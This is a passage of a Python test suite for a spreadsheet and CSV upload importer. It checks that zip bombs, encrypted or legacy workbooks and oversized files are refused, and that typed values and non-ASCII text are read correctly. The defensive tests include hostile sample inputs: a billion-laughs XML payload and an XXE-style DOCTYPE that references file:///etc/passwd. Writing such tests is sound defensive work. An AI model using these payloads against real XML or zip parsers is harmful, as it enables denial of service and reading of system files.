    """Fail the test if the workbook reader is ever reached."""

    def refuse(*args):
        raise AssertionError("the reader opened a file that should have been refused")

    monkeypatch.setattr(excel_reading, "_calamine_rows", refuse)
    monkeypatch.setattr(excel_reading, "_csv_rows", refuse)


@pytest.mark.usefixtures("no_reader")
@pytest.mark.parametrize("case", REFUSED)
def test_refused_upload_gives_one_message_and_applies_nothing(case):
    """Every refused file is one file-level error, apply never runs, no transaction opens."""
    data, filename, message = REFUSED[case]
    apply, calls = _apply_recorder()
    transaction = FakeTransaction()
    checked = []
    result = run_import(data, SPEC, filename=filename, apply=apply, dry_run=False,
                        transaction=transaction, validate_row=checked.append)
    assert [(error.row, error.column, error.message) for error in result.errors] == [
        (0, "", message)]
    assert str(result.errors[0]) == message
    assert calls == []
    assert checked == []
    assert transaction.events == []
    assert result.row_count == 0
    with pytest.raises(FileRefused, match=re.escape(message[:40])):
        check_upload(data, filename)


@pytest.mark.usefixtures("no_reader")
def test_zip_bomb_is_refused_from_its_directory():
    """A part packed a thousand times is refused from the zip directory, never unpacked."""
    bomb = zip_bomb()
    assert len(bomb) < MB
    apply, calls = _apply_recorder()
    result = run_import(bomb, SPEC, apply=apply, dry_run=False)
    assert error_map(result.errors) == {(0, ""): (
        'The workbook part "xl/media/image1.png" is compressed more than 200 times, which real '
        'workbooks never are; it was refused as a possible "zip bomb".')}
    assert calls == []
    # also when the ratio is allowed, the total unpacked size is capped
    with pytest.raises(FileRefused, match=r"unpacks to more than 50 MB, the limit"):
        check_upload(bomb, max_ratio=10_000, max_uncompressed_bytes=50 * MB)
    assert check_upload(bomb, max_ratio=10_000) == "xlsx"


def test_total_unpacked_size_limit_is_a_parameter():
    """read_workbook and run_import take the unpacked-size limit as a keyword."""
    upload = xlsx(GOOD)
    assert read_workbook(upload, SPEC).ok
    message = read_workbook(upload, SPEC, max_uncompressed_bytes=2048).errors[0].message
    assert message == ('The workbook unpacks to more than 2 KB, the limit; it may be a "zip '
                       'bomb". Split it into smaller files.')
    apply, calls = _apply_recorder()
    result = run_import(upload, SPEC, apply=apply, dry_run=False, max_uncompressed_bytes=2048)
    assert error_map(result.errors) == {(0, ""): message}
    assert calls == []


def test_too_many_parts_is_refused():
    """A workbook with more than 10,000 zip entries is refused."""
    output = io.BytesIO(xlsx(GOOD))
    with zipfile.ZipFile(output, "a") as archive:
        for index in range(10_001):
            archive.writestr(f"xl/media/{index}.bin", b"")
    result = read_workbook(output.getvalue(), SPEC)
    assert error_map(result.errors) == {(0, ""): (
        'The workbook has more than 10,000 parts, which no real workbook has; it was refused as '
        'a possible "zip bomb".')}
    assert check_upload(output.getvalue(), max_entries=20_000) == "xlsx"


def test_max_bytes_is_a_parameter():
    """The size limit is checked first, and callers may lower or raise it."""
    upload = xlsx(GOOD)
    assert len(upload) > 2048
    result = read_workbook(upload, SPEC, max_bytes=2048)
    assert error_map(result.errors) == {(0, ""): (
        f"The file is {math.ceil(len(upload) / 1024 * 10) / 10:g} KB; the limit is 2 KB. "
        "Split it into smaller files.")}
    big = b"SKU code\n" + b"A\n" * ((3 * MB - 9) // 2)
    assert read_workbook(big, SPEC, filename="a.csv", max_bytes=2 * MB).errors[0].message == (
        "The file is 3 MB; the limit is 2 MB. Split it into smaller files.")
    assert read_workbook(upload, SPEC, max_bytes=len(upload)).ok  # the limit itself is fine
    assert check_upload(b"SKU code\n".ljust(MAX_UPLOAD_BYTES, b"A"), "a.csv") == "csv"


@pytest.mark.parametrize("payload", [
    BILLION_LAUGHS,
    BILLION_LAUGHS.decode().encode("utf-16"),  # a parser reads UTF-16 just as well
    b'<?xml version="1.0"?><!-- a comment first --><!DOCTYPE x SYSTEM "file:///etc/passwd"><sst/>',
    b'\xef\xbb\xbf  <!ENTITY x "y"><sst/>',
])
def test_xml_bombs_are_refused_in_any_part(payload):
    """A DOCTYPE or ENTITY before the root element of any XML part refuses the workbook."""
    assert read_workbook(shared_xlsx(GOOD), SPEC).ok
    for part in ("xl/sharedStrings.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml",
                 "[Content_Types].xml"):
        result = read_workbook(rezip(shared_xlsx(GOOD), replace={part: payload}), SPEC)
        assert error_map(result.errors) == {(0, ""): (
            f'The workbook part "{part}" declares a DOCTYPE or ENTITY, which Excel never writes; '
            'it was refused as a possible "XML bomb".')}


def test_xml_part_with_an_endless_prolog_is_refused():
    """The DOCTYPE scan is bounded: a part must reach its root element within 64 KB."""
    payload = b'<?xml version="1.0"?><!--' + b"x" * (70 * 1024) + b'--><!DOCTYPE x><sst/>'
    result = read_workbook(rezip(xlsx(GOOD), replace={"xl/styles.xml": payload}), SPEC)
    assert result.errors[0].message == (
        'The workbook part "xl/styles.xml" does not start like an Excel part (no element in its '
        "first 64 KB); it was refused.")


def test_doctype_text_inside_cells_is_not_a_bomb():
    """Text that merely reads like a declaration, and comments before the root, are fine."""
    upload = xlsx([["SKU code", "Barcode"], ["a", '<!DOCTYPE html><!ENTITY x "y">']])
    with zipfile.ZipFile(io.BytesIO(upload)) as archive:
        styles = archive.read("xl/styles.xml")
    upload = rezip(upload, replace={"xl/styles.xml": styles.replace(
        b"?>", b"?>\n<!-- written by hand -->\n<?pi data?>", 1)})
    result = read_workbook(upload, SPEC)
    assert result.ok, result.errors
    assert result.rows[0]["barcode"] == '<!DOCTYPE html><!ENTITY x "y">'


def test_encrypted_workbook_named_anything_is_refused():
    """Detection is by content: the OLE header is enough, whatever the file is called."""
    encrypted = REFUSED["encrypted"][0]
    for filename in ("skus.xlsx", "skus.csv", "skus.xls", "skus"):
        assert read_workbook(encrypted, SPEC, filename=filename).errors[0].message == ENCRYPTED
    assert "Excel 97-2003 workbook (.xls)" in read_workbook(
        REFUSED["legacy xls"][0], SPEC, filename="skus.xlsx").errors[0].message


def test_zip_entry_encryption_is_refused():
    """A zip whose parts are encrypted is a password-protected file."""
    upload = bytearray(xlsx(GOOD))
    with zipfile.ZipFile(io.BytesIO(bytes(upload))) as archive:
        offsets = [info.header_offset for info in archive.infolist()]
    for offset in offsets:  # set the "encrypted" flag of each local header ...
        upload[offset + 6] |= 1
    position = upload.find(b"PK\x01\x02")
    while position != -1:  # ... and of each central directory entry
        upload[position + 8] |= 1
        position = upload.find(b"PK\x01\x02", position + 4)
    assert read_workbook(bytes(upload), SPEC).errors[0].message == ENCRYPTED


def test_workbooks_are_recognised_by_content_not_name():
    """An .xlsx named .csv, .xls or with no extension is still read as the workbook it is."""
    for filename in ("skus.csv", "skus.xls", "skus", "SKUS.XLSM"):
        result = read_workbook(xlsx(GOOD), SPEC, filename=filename)
        assert [row["code"] for row in result.rows] == ["A", "B"], filename
    assert check_upload(xlsx(GOOD), "x.xlsx") == "xlsx"
    assert check_upload(b"SKU code\nA\n", "x.csv") == "csv"


def test_utf16_unicode_text_is_read():
    """Excel's "Unicode Text" (.txt, UTF-16 with tabs) is a CSV with NUL bytes: still text."""
    data = "SKU code\tWeight (g)\r\n中文-1\t3\r\n".encode("utf-16")
    result = read_workbook(data, SPEC, filename="skus.txt")
    assert [(row["code"], row["weight"]) for row in result.rows] == [("中文-1", 3)]


def test_error_report_never_opens_a_refused_file():
    """The report of a refused file is a fresh workbook holding just the message."""
    for case in ("xml bomb", "encrypted", "png", "truncated"):
        data, filename, message = REFUSED[case]
        report = load(error_report_workbook(data, SPEC, [CellError(0, "", message)],
                                            filename=filename))
        sheet = report.active
        assert report.sheetnames == ["SKUs"]
        assert sheet.max_row == 1
        assert sheet["A1"].value == f"Errors\n{message}"
    zip_report = load(error_report_workbook(zip_bomb(), SPEC, [CellError(0, "", "bomb")]))
    assert zip_report.active["A1"].value == "Errors\nbomb"


# --------------------------------------------------------------------------- what people type


@pytest.mark.parametrize(("column", "cell", "expected"), [
    ("Weight (g)", " 219 ", 219),
    ("Weight (g)", "+5", 5),
    ("Weight (g)", "219.00", 219),
    ("Unit cost", " 1.50 ", Decimal("1.50")),
    ("Unit cost", ".5", Decimal("0.5")),
    ("Active", " Yes ", True),
    ("Active", "TRUE", True),
    ("Active", " 0 ", False),
    ("Barcode", "  0042  ", "0042"),
    ("Available from", " 2026-01-31 ", date(2026, 1, 31)),
    ("Kind", "  BUNDLE", "Bundle"),
])
def test_numbers_stored_as_text_and_spaces_are_normalised(column, cell, expected):
    """Numbers typed as text, surrounding spaces and yes/TRUE/1 all read as meant."""
    result = read_workbook(xlsx([["SKU code", column], ["a", cell]]), SPEC)
    assert result.ok, result.errors
    key = next(c.key for c in SPEC.columns if c.header == column)
    assert result.rows[0][key] == expected
    assert type(result.rows[0][key]) is type(expected)


# --------------------------------------------------------------------------- non-ASCII text

UNICODE_SPEC = Spec("products", "商品 Produits", (
    Column("code", "SKU code", required=True),
    Column("name", "名称 / Désignation"),
    Column("colour", "Colour", choices=("红色", "Blau", "Vert émeraude")),
))
UNICODE_ROWS = [
    {"code": "中文-001", "name": "纯棉T恤 男款 (中文)", "colour": "红色"},
    {"code": "É-002", "name": "Crème brûlée à l'œuf, Größe XL, Ångström, ñandú", "colour": "Blau"},
    {"code": "EMOJI-3", "name": "Party 🎉 with 👍🏽 and 👨‍👩‍👧 (ZWJ)", "colour": "Vert émeraude"},
    {"code": "MIX-4", "name": "Ελληνικά, русский, עברית, العربية, 日本語, 한국어", "colour": None},
    {"code": "=中文", "name": "-emoji first 🎉", "colour": None},
]


def test_non_ascii_text_survives_export_and_import():
    """Chinese, accented, right-to-left text and emoji come back exactly, headers too."""
    data = export_workbook(UNICODE_SPEC, UNICODE_ROWS)
    assert load(data).sheetnames == ["商品 Produits"]
    result = read_workbook(data, UNICODE_SPEC)
    assert result.ok, result.errors
    assert [{k: v for k, v in row.items() if k != "_row"} for row in result.rows] == UNICODE_ROWS
    template = load(template_workbook(UNICODE_SPEC))["商品 Produits"]
    assert [c.value for c in template[1]] == ["SKU code", "名称 / Désignation", "Colour"]


def test_non_ascii_text_survives_csv_and_the_error_report():
    """A UTF-8 CSV keeps its text, and so does the .xlsx error report made from it."""
    lines = ["SKU code;名称 / Désignation;Colour"] + [
        f"{row['code']};{row['name']};{row['colour'] or ''}" for row in UNICODE_ROWS]
    data = "\r\n".join(lines).encode("utf-8-sig")
    result = read_workbook(data, UNICODE_SPEC, filename="产品.csv")
    assert [{k: v for k, v in row.items() if k != "_row"} for row in result.rows] == UNICODE_ROWS
    errors = [CellError(3, "名称 / Désignation", "trop long 太长 🚫")]
    sheet = load(error_report_workbook(data, UNICODE_SPEC, errors, filename="产品.csv")).active
    assert sheet["B3"].value == UNICODE_ROWS[1]["name"]
    assert sheet["D3"].value == "名称 / Désignation: trop long 太长 🚫"
    assert sheet["B3"].fill.fgColor.rgb.endswith("FFC7CE")
